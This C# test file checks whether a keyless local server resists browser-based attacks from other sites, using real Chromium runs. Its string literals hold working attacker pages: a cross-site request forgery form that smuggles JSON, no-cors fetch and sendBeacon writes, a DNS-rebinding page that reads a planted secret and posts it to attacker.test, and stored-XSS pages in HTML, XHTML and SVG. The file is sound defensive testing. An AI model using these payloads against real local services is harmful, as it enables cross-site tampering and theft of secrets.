using System.Globalization;
using System.Text.Json;

namespace Remanso.Server.Tests.Browser;

/// <summary>What a page of another site can do to a server on the same machine that has no keys, in a real browser.
/// Each attack runs against a server without guards first: one that would not work there proves nothing here.</summary>
public sealed class BrowserAttackTests
{
    /// <summary>A page that tells the attacker that its script ran.</summary>
    public static string StoredPage(int attacker) =>
        $"<html><script>navigator.sendBeacon('http://attacker.test:{attacker.ToString(CultureInfo.InvariantCulture)}/ran')</script>"
        + $"<img src=x onerror=\"navigator.sendBeacon('http://attacker.test:{attacker.ToString(CultureInfo.InvariantCulture)}/ran')\"></html>";

    [Theory]
    [InlineData("attacker.test")]
    [InlineData("localhost")]
    public async Task A_page_of_another_site_writes_nothing_and_reads_nothing(string site)
    {
        await using var server = await RunningServer.StartAsync();
        await SetAsync(server, "secret", "planted-secret");

        await using var control = await Attacker.StartAsync();
        var worked = await AttackAsync(site, control, control.Port);
        Assert.Equal(
            [
                "/empty ",
                "/set {\"key\":\"beacon\",\"value\":\"x\"}",
                "/set {\"key\":\"fetch\",\"value\":\"x\"}",
                "/set {\"key\":\"form\",\"value\":\"x\",\"z\":\"=\"}",
            ],
            control.Writes.Select(static write => write.TrimEnd('\r', '\n')).Order(StringComparer.Ordinal)
        );
        Assert.Equal("opaque", worked.GetProperty("nocors").GetString());

        await using var attacker = await Attacker.StartAsync();
        var report = await AttackAsync(site, attacker, server.Address.Port);
        foreach (var key in new[] { "form", "fetch", "beacon" })
        {
            Assert.Equal(HttpStatusCode.NotFound, (await server.SendAsync("GET", "/get/" + key)).StatusCode);
        }

        Assert.Equal("failed", report.GetProperty("cors").GetString());
        Assert.DoesNotContain("planted-secret", report.GetRawText(), StringComparison.Ordinal);
        if (site == "attacker.test")
        {
            // Cross-Origin-Resource-Policy: not even an opaque answer reaches the page's process.
            Assert.Equal("failed", report.GetProperty("nocors").GetString());
        }
    }

    [Fact]
    public async Task A_name_that_is_led_to_this_machine_reads_nothing()
    {
        await using var server = await RunningServer.StartAsync();
        await SetAsync(server, "secret", "planted-secret");

        await using var unguarded = await Attacker.StartAsync();
        Assert.Contains("planted-secret", (await RebindAsync(unguarded.Port)).GetProperty("text").GetString(), StringComparison.Ordinal);

        var report = await RebindAsync(server.Address.Port);
        Assert.Equal(421, report.GetProperty("status").GetInt32());
        Assert.DoesNotContain("planted-secret", report.GetRawText(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("text/html")]
    [InlineData("application/xhtml+xml")]
    [InlineData("image/svg+xml")]
    [InlineData("application/octet-stream")]
    [InlineData("text/plain")]
    [InlineData(null)]
    public async Task A_stored_page_does_not_run(string? type)
    {
        await using var server = await RunningServer.StartAsync();
        await using var attacker = await Attacker.StartAsync();
        var stored = type switch
        {
            "application/xhtml+xml" => "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>" + Script(attacker.Port) + "</script></html>",
            "image/svg+xml" => "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>" + Script(attacker.Port) + "</script></svg>",
            _ => StoredPage(attacker.Port),
        };
        Assert.Equal(HttpStatusCode.Accepted, (await server.SendAsync("PUT", "/v1/caches/default/entries/page", stored, type)).StatusCode);

        await OpenAsync(attacker, $"http://localhost:{server.Address.Port}/v1/caches/default/entries/page");
        Assert.False(attacker.ScriptRan);
    }

    [Fact]
    public async Task The_same_page_runs_where_nothing_guards_it()
    {
        await using var attacker = await Attacker.StartAsync();

        await OpenAsync(attacker, $"http://localhost:{attacker.Port}/stored");

        Assert.True(attacker.ScriptRan);
    }

    private static string Script(int attacker) =>
        $"fetch('http://attacker.test:{attacker.ToString(CultureInfo.InvariantCulture)}/ran', {{ mode: 'no-cors' }})";

    private static async Task<JsonElement> AttackAsync(string site, Attacker attacker, int victimPort)
    {
        attacker.Page = """
            <body><form id=f method=post enctype=text/plain target=frame><input type=hidden name='{"key":"form","value":"x","z":"' value='"}'></form>
            <iframe name=frame id=frame></iframe><script>
            const victim = 'VICTIM', report = {};
            const attempt = async (name, action) => { try { report[name] = await action(); } catch { report[name] = 'failed'; } };
            const post = body => fetch(victim + (body ? '/set' : '/empty'), { method: 'POST', mode: 'no-cors', body, headers: { 'Content-Type': 'text/plain' } });
            (async () => {
                f.action = victim + '/set';
                f.submit();
                await new Promise(done => setTimeout(done, 1500));
                await attempt('write', async () => (await post('{"key":"fetch","value":"x"}')).type);
                await attempt('empty', async () => (await post('')).type);
                await attempt('nocors', async () => (await fetch(victim + '/get/secret', { mode: 'no-cors' })).type);
                await attempt('cors', async () => (await fetch(victim + '/get/secret')).text());
                await attempt('script', () => new Promise((done, failed) => {
                    const script = document.createElement('script');
                    script.onload = () => done('loaded');
                    script.onerror = failed;
                    script.src = victim + '/get/secret';
                    document.body.append(script);
                }));
                report.beacon = navigator.sendBeacon(victim + '/set', '{"key":"beacon","value":"x"}');
                await new Promise(done => setTimeout(done, 500));
                await fetch('/done', { method: 'POST', body: JSON.stringify(report) });
            })();
            </script>
            """.Replace("VICTIM", $"http://localhost:{victimPort}", StringComparison.Ordinal);
        if (victimPort == attacker.Port)
        {
            // A victim of its own port would be the same origin under the same name.
            attacker.Page = attacker.Page.Replace("localhost", site == "localhost" ? "127.0.0.1" : "localhost", StringComparison.Ordinal);
        }

        using var browser = new Chromium(attacker.At(site));
        return await attacker.ReportAsync();
    }

    private static async Task<JsonElement> RebindAsync(int victimPort)
    {
        await using var attacker = await Attacker.StartAsync();
        using var port = new SwitchedPort(attacker.Port);
        attacker.Switch = () => port.SwitchTo(victimPort);
        attacker.Page = """
            <body><script>
            (async () => {
                await fetch('/switch');
                const answer = await fetch('/get/secret', { cache: 'no-store' });
                const report = { status: answer.status, text: await answer.text() };
                await fetch('http://attacker.test:ATTACKER/done', { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) });
            })();
            </script>
            """.Replace("ATTACKER", attacker.Port.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal);

        using var browser = new Chromium(new Uri($"http://rebound.test:{port.Port}/page"));
        return await attacker.ReportAsync();
    }

    private static async Task OpenAsync(Attacker attacker, string stored)
    {
        attacker.Page = """
            <body><script>
            for (const make of [() => window.open('STORED'), () => { const frame = document.createElement('iframe'); frame.src = 'STORED'; document.body.append(frame); },
                () => { const object = document.createElement('object'); object.data = 'STORED'; document.body.append(object); }]) { make(); }
            setTimeout(() => fetch('/done', { method: 'POST', body: '{}' }), 3000);
            </script>
            """.Replace("STORED", stored, StringComparison.Ordinal);
        using var browser = new Chromium(attacker.At("attacker.test"));
        await attacker.ReportAsync();
    }

    private static async Task SetAsync(RunningServer server, string key, string value) =>
        Assert.Equal(HttpStatusCode.OK, (await server.SendAsync("POST", "/set", $$"""{"key":"{{key}}","value":"{{value}}"}""")).StatusCode);
}
